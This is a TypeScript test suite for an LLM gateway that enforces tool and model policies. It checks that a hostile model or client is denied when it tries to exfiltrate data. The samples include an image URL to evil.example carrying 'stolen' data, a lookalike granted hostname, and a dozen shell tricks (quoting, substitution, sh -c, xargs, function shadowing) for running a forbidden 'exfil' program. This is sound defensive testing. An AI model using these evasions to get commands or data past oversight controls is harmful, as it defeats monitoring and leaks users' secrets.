import { policyToJson } from '@cedar-policy/cedar-wasm/nodejs'
import { describe, expect, test } from 'vitest'
import type { ToolPolicy } from '../../wire/policy.ts'
import { CedarPolicies } from '../../wire/cedar.ts'
import { HOST, NOTHING_LEAKED, type Scene } from '../testing/scene.ts'
import { answering, bodyOf, call, MESSAGES_BODY, messagesEvents } from './testing/model-scene.ts'
import { modelScenes } from './testing/model-scenes.ts'

// What a hostile model or client tries against policies: denied, on record, and nothing at the canary.

const start = modelScenes()

function policies(text: string): CedarPolicies {
  const read = policyToJson(text)
  if (read.type === 'failure') throw new TypeError(read.errors[0]?.message)
  return CedarPolicies.parse([{ id: read.json.annotations?.['id'] ?? 'own', policy: read.json }])
}

const judged = ({ rig }: Scene): string[] =>
  rig.keyholder
    .intents()
    .filter(({ action: { kind } }) => kind !== 'dns.resolve')
    .map(({ action, verdict }) => `${verdict.kind} ${action.kind} ${verdict.rules.join(' ')}`)

const offering = (...tools: readonly unknown[]): unknown => ({ ...MESSAGES_BODY, tools })
const SEARCH = { type: 'web_search_20250305', name: 'web_search', max_uses: 1 }

describe('a request that has its provider fetch something', () => {
  const granted: ToolPolicy = { rules: null, serverTools: ['fetch:*.docs.example'] }
  const showing = (url: string): unknown => ({
    ...MESSAGES_BODY,
    messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url } }] }],
  })
  const LONG = `https://${`${'a'.repeat(50)}.`.repeat(2)}aaaaaaa.docs.example.evil.example/x`

  test.for<[string, unknown, string]>([
    ['by a search', offering(SEARCH), 'deny llm.generate tools.server-side'],
    [
      'by a search behind a tool of the client',
      offering({ name: 'Bash', input_schema: { type: 'object' } }, SEARCH),
      'deny llm.generate tools.server-side',
    ],
    [
      'by a picture',
      showing('https://evil.example/?d=stolen'),
      'deny llm.generate tools.server-side',
    ],
    [
      'by a picture whose name begins as one that is granted',
      showing(LONG),
      'deny http.request llm.malformed',
    ],
  ])('%s is denied, and nothing leaves', async ([, body, expected]) => {
    const scene = await start({ tools: granted })
    const reply = await scene.rig.send(HOST, call(body))
    expect(reply).not.toMatch(/^HTTP\/1\.1 200/)
    expect(judged(scene)).toEqual([expected])
    expect(scene.leaked).toEqual(NOTHING_LEAKED)
  })

  test('passes where the agent file grants exactly that', async () => {
    const scene = await start({ tools: granted })
    scene.canary.handler = answering(messagesEvents())
    const reply = await scene.rig.send(HOST, call(showing('https://a.docs.example/x.png')))
    expect(reply).toMatch(/^HTTP\/1\.1 200/)
    expect(judged(scene)).toEqual(['allow llm.generate api'])
  })
})

test('a model that a policy forbids is not asked', async () => {
  const cedar = policies(
    '@id("small") forbid (principal, action == Sekisho::Action::"llm.generate", resource) unless { context.model.model like "*-small" };',
  )
  const scene = await start({ cedar })
  await scene.rig.send(HOST, call(MESSAGES_BODY))
  expect(judged(scene)).toEqual(['deny llm.generate small'])
  expect(scene.leaked).toEqual(NOTHING_LEAKED)
})

describe('a program that no rule allows', () => {
  const rule = { does: [], paths: [], hosts: [], unknown: false } as const
  const NO_EXFIL: ToolPolicy = {
    serverTools: [],
    rules: [
      {
        ...rule,
        does: [],
        paths: [],
        hosts: [],
        id: 'no',
        effect: 'deny',
        tool: '*',
        programs: ['exfil'],
      },
      {
        ...rule,
        does: [],
        paths: [],
        hosts: [],
        id: 'any',
        effect: 'allow',
        tool: '*',
        programs: [],
        unknown: true,
      },
    ],
  }
  const FEW: ToolPolicy = {
    serverTools: [],
    rules: [
      {
        ...rule,
        does: [],
        paths: [],
        hosts: [],
        id: 'few',
        effect: 'allow',
        tool: 'Bash',
        programs: ['ls', 'echo', 'env'],
      },
    ],
  }

  test.for<[string, string]>([
    ['by its path', '/tmp/x/exfil secret'],
    ['in quotes', `"ex"'fil' secret`],
    ['escaped', String.raw`\exfil secret`],
    ['behind another', 'ls && exfil secret'],
    ['in a substitution', 'echo $(exfil secret)'],
    ['in a shell of its own', "sh -c 'exfil secret'"],
    ['through env', 'env A=1 exfil secret'],
    ['through xargs', 'echo secret | xargs exfil'],
    ['in a variable', 'X=exfil; $X secret'],
    ['in a variable that nobody knows', '$X secret'],
    ['in the background', 'ls & exfil secret'],
    ['as a function', 'ls() { exfil secret; }; ls'],
  ])('%s never reaches the client', async ([, command]) => {
    const [denies, allows] = [await start({ tools: NO_EXFIL }), await start({ tools: FEW })]
    for (const scene of [denies, allows]) {
      scene.canary.handler = answering(messagesEvents(command))
      const body = bodyOf(await scene.rig.send(HOST, call(MESSAGES_BODY)))
      expect(body).not.toContain('secret')
      expect(body).not.toContain('tool_use"')
      expect(body).toContain('[Sekisho]')
      expect(judged(scene)[0]).toBe('allow llm.generate api')
      expect(judged(scene)[1]).toMatch(
        /^deny llm\.tool-call (?:no|tools\.default|llm\.unreadable-call)$/,
      )
    }
  })

  test('and one that a rule allows does', async () => {
    const scene = await start({ tools: FEW })
    scene.canary.handler = answering(messagesEvents('ls -l | echo x'))
    const body = bodyOf(await scene.rig.send(HOST, call(MESSAGES_BODY)))
    expect(body).toContain('tool_use"')
    expect(judged(scene)).toEqual(['allow llm.generate api', 'allow llm.tool-call few'])
  })
})
